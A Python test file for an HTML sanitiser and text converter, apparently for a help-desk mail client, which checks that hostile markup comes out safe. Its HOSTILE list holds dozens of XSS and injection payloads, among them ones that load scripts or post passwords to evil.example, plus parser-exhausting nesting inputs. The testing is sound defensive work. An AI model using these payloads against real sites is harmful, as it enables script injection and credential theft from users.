import html
import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shounuo.kernel.html import sanitise, to_text

PIXEL = "data:image/png;base64,iVBORw0KGgo="

# One of each way in that help desks were attacked by, mail, name or attachment.
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' />",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;cript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>fake login</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns:xlink='x' xlink:href='javascript:alert(1)'>",
    "<a href=x target=_top rel=opener ping='https://evil.example'>x</a>",
    "<table background='https://evil.example/x.png'><td background='javascript:alert(1)'>x</table>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<img src='cid:unknown' onerror=alert(1)>",
    "<img src='cid:evil'>",
    "<input type=image src=x onerror=alert(1)>",
    "<p id=content class=modal data-controller=x hx-get='/admin'>x</p>",
    "<img src=`x`onerror=alert(1)>",
    "<a href='https://x.example/' title='\"><script>alert(1)</script>'>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<img src="https://x.example/a" alt=\' src="remote-0000:x\'>',
    "<b><img src=x:x onerror=&#97;lert(1)></b>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
]
_TAG = re.compile(r"<([a-z][a-z0-9]*)((?:\s+[^\s=<>]+=\"[^\"]*\")*)\s*/?>|</([a-z][a-z0-9]*)>")
_ATTRIBUTE = re.compile(r"\s+([^\s=<>]+)=\"([^\"]*)\"")
ALLOWED = {"href", "src", "data-src", "alt", "width", "height", "rel", "target", "dir", "lang", "title", "align", "valign",
           "colspan", "rowspan", "span", "border", "cellpadding", "cellspacing", "start", "type", "reversed", "value"}  # fmt: skip


def assert_safe(safe: str) -> None:
    """Reads the output with a reader of its own: only known tags with known, harmless attributes."""
    position = 0
    for match in _TAG.finditer(safe):
        assert "<" not in safe[position : match.start()], safe
        position = match.end()
        name = match[1] or match[3]
        assert name not in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "form",
            "input",
            "meta",
            "base",
            "object",
            "link",
        }, safe
        for attribute, value in _ATTRIBUTE.findall(match[2] or ""):
            assert attribute in ALLOWED, (attribute, safe)
            plain = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
            if attribute == "href":
                assert plain.startswith(("http://", "https://", "mailto:", "tel:")), safe
            if attribute == "src":
                assert re.match(r"/(?!/)|data:image/(png|jpeg|gif|webp);base64,", plain), safe
            if attribute == "data-src":
                assert plain.startswith(("http://", "https://")), safe
    assert "<" not in safe[position:], safe


class TestSanitise:
    @pytest.mark.parametrize("source", HOSTILE)
    def test_no_attack_survives(self, source):
        maps = {"evil": "javascript:alert(1)", "known": "/files/1"}
        safe = sanitise(source, maps).html
        assert_safe(safe)
        assert not re.search(r"<script|javascript:|<[^>]*\son\w+\s*=", safe, re.IGNORECASE)

    @pytest.mark.parametrize("first", HOSTILE[::4])
    @pytest.mark.parametrize("second", HOSTILE[1::9])
    def test_attacks_do_not_help_each_other(self, first, second):
        assert_safe(sanitise(first + second).html)
        assert_safe(sanitise(first[: len(first) // 2] + second + first[len(first) // 2 :]).html)

    @given(
        st.lists(
            st.sampled_from(
                [
                    *HOSTILE,
                    "<table>",
                    "<td>",
                    "<p title='",
                    "'>",
                    '">',
                    "<!--",
                    "-->",
                    "<a href=",
                    "x",
                    "<",
                    "&lt;",
                ]
            ),
            max_size=8,
        )
    )
    def test_any_mixture_comes_out_safe(self, pieces):
        assert_safe(sanitise("".join(pieces), {"known": PIXEL}).html)

    @given(st.text(max_size=300))
    @example("<img src=cid:known title='\u2028")
    def test_any_text_comes_out_safe(self, source):
        assert_safe(sanitise(source).html)

    def test_what_came_out_goes_in_again_unchanged(self):
        once = sanitise("<p>a <b>b</b> <a href='https://x.example/?a=1&b=2'>c</a></p><ul><li>d</ul>").html
        assert sanitise(once).html == once

    def test_remote_images_wait_for_permission(self):
        safe = sanitise("<img src='https://t.example/pixel.gif?a=1&amp;b=2' width=1 height=1>")
        assert safe.had_remote_images
        assert ' data-src="https://t.example/pixel.gif?a=1&amp;b=2"' in safe.html
        assert " src=" not in safe.html

    def test_images_that_came_along_are_shown(self):
        safe = sanitise(
            '<img src="cid:part%201@x"><img src="CID:two@x"><img src="cid:none">',
            {"part 1@x": "/files/7", "two@x": PIXEL},
        )
        assert '<img src="/files/7">' in safe.html and f'src="{PIXEL}"' in safe.html
        assert not safe.had_remote_images and "cid:" not in safe.html.lower()

    @pytest.mark.parametrize(
        "target",
        [
            "//evil.example/x",
            "/\\evil.example",
            "https://evil.example",
            "data:image/svg+xml;base64,AA==",
            "javascript:1",
            '/x"onerror="1',
            "",
        ],
    )
    def test_an_unsafe_place_for_an_image_is_refused(self, target):
        assert sanitise('<img src="cid:a">', {"a": target}).html == "<img>"

    def test_links_open_elsewhere_without_a_trace(self):
        safe = sanitise("<a href='https://x.example'>x</a>").html
        assert 'rel="noopener noreferrer nofollow"' in safe and 'target="_blank"' in safe

    def test_relative_and_odd_links_lose_their_target(self):
        for target in ("/admin/delete", "//x.example", "#top", "ftp://x", "file:///etc/passwd", "cid:x"):
            assert "href" not in sanitise(f"<a href='{target}'>x</a>").html

    def test_no_style_class_id_or_name_is_kept(self):
        assert sanitise("<p style='color:red' class=a id=b name=c>x</p>").html == "<p>x</p>"

    def test_text_around_a_nested_document_is_kept(self):
        assert to_text("<p>新的回复</p><html><body><p>旧邮件</p></body></html>") == "新的回复\n\n旧邮件"

    def test_lists_tables_and_their_numbers_are_kept(self):
        safe = sanitise(
            "<ol start=3><li>a</ol><table border=1 width='100%'><tr><td colspan=2 width='1;x'>b</table>"
        ).html
        assert '<ol start="3"><li>a</li></ol>' in safe and '<td colspan="2">b</td>' in safe

    @pytest.mark.parametrize(
        "source",
        ["<div>" * 60_000, "<div>" * 9_000 + "</p>" * 9_000, "<b x=1>" * 4_000 + "<p>x" * 4_000,
         "".join(f"<font size={number}>" for number in range(1500)) + "<p>x" * 1500, "<!--" * 100_000, "<a " * 100_000,
         "<script>" * 50_000, "<table><tr><td>" * 8_000, "<ul><li>" * 9_000, "<" * 300_000, "<div x='<>'>" * 30_000],
        ids=lambda source: source[:12],
    )  # fmt: skip
    def test_hostile_nesting_costs_little(self, source):
        begun = time.process_time()
        assert_safe(sanitise(source).html)
        to_text(source)
        assert time.process_time() - begun < 4

    def test_a_flattened_page_keeps_words_links_and_images(self):
        source = (
            "<div>" * 5000 + "你好 <a href='https://x.example'>链接</a><img src='https://x.example/i.png'>"
        )
        safe = sanitise(source)
        assert (
            safe.simplified
            and "你好" in safe.html
            and 'href="https://x.example"' in safe.html
            and safe.had_remote_images
        )


class TestText:
    @pytest.mark.parametrize(
        ("source", "text"),
        [("<p>a</p><p>b</p>", "a\n\nb"), ("a<br>b<br><br>c", "a\nb\n\nc"), ("<div>a</div><div>b</div>", "a\nb"),
         ("<ul><li>a<li>b<ul><li>c</ul></ul>", "- a\n- b\n  - c"), ("<ol><li>a<li>b</ol>", "1. a\n2. b"),
         ("<table><tr><td>订单</td><td>123</td></tr><tr><td>金额</td><td>5</td></tr></table>", "订单 | 123\n金额 | 5"),
         ("<a href='https://x.example/a'>看这里</a>。", "看这里 (https://x.example/a)。"), ("<a href='https://x.example/'>x.example</a>", "x.example"),
         ("<a href='mailto:a@b.example'>客服</a>", "客服 (a@b.example)"), ("<blockquote>a<br>b</blockquote>c", "> a\n> b\n\nc"),
         ("<img alt='截图' src=x>", "[截图]"), ("a&nbsp;&lt;b&gt; &amp;", "a <b> &"), ("  a \n b  ", "a b"), ("<pre> a\n  b</pre>", " a\n  b"),
         ("<style>p{}</style><script>x</script>a<title>t</title>", "a"), ("<hr>", "---"), ("", ""), ("<h1>标题</h1>正文", "标题\n\n正文"),
         ("a<span>b</span><b>c</b>", "abc"), ("<p>a</p>\n\n\n<p>&nbsp;</p><p>b</p>", "a\n\nb")],
    )  # fmt: skip
    def test_reads_as_a_person_would_write_it(self, source, text):
        assert to_text(source) == text

    @given(st.text(max_size=200))
    def test_never_raises(self, source):
        to_text(source)
